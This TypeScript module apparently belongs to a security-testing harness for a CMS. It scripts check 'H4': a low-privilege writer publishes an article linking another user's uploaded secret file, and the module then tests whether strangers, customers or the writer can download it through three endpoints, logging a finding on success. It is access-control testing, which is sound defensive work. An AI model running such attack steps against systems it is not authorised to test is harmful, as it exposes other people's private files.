import type { AttackPart } from '../attack-parts.ts';
import { formatWireReply } from '../wire/attack-client.ts';
import { callAsPerson, callOrThrow, createColleagueWithRights } from './attack-setup-steps.ts';

const SECRET = 'only-for-the-engineer';

/** H4: an article names a file of somebody else, and hands it to everybody who reads. */
export const leakFileThroughArticle: AttackPart = async ({ wire, people: { admin, engineer, stranger, customer } }) => {
  const writer = await createColleagueWithRights(wire, admin, ['content:read', 'content:write']);
  const body = new FormData();
  body.append('file', new Blob([SECRET]), '工资.txt');
  const kept = await wire.ask(engineer, { method: 'POST', path: '/api/b/fileItem/upload', body });
  const fileId = String(kept.json?.data?.[0]);
  const [category] = await callOrThrow(wire, admin, 'POST /form/contentCategory/queryList', { pageSize: 1 });
  const link = { id: fileId, fileName: '工资.txt', fileSize: SECRET.length };
  const draft = {
    title: '公告',
    category: category.id,
    content: `<p>x<img src="/image/${fileId}"></p>`,
    open: true,
    files: [link],
  };
  const saved = await callAsPerson(wire, writer, 'POST /form/article/save', draft);
  const { id, version } = saved.json?.data ?? {};
  await callAsPerson(wire, writer, 'PUT /a/cms/article', { id, version, state: 'published' });
  const ways = [`/web/article/${id}/file/${fileId}`, `/image/${fileId}`, `/b/fileItem/download/${fileId}`];
  for (const who of [stranger, customer, writer])
    for (const way of ways) {
      const reply = await callAsPerson(wire, who, `GET ${way}`);
      if (reply.text.includes(SECRET))
        wire.ledger.find(
          'H4',
          `an article hands out somebody else's file to ${who.name.replace(/\d.*/, '')}`,
          formatWireReply(reply),
        );
    }
  return "somebody else's file in an article, by three ways to three readers";
};
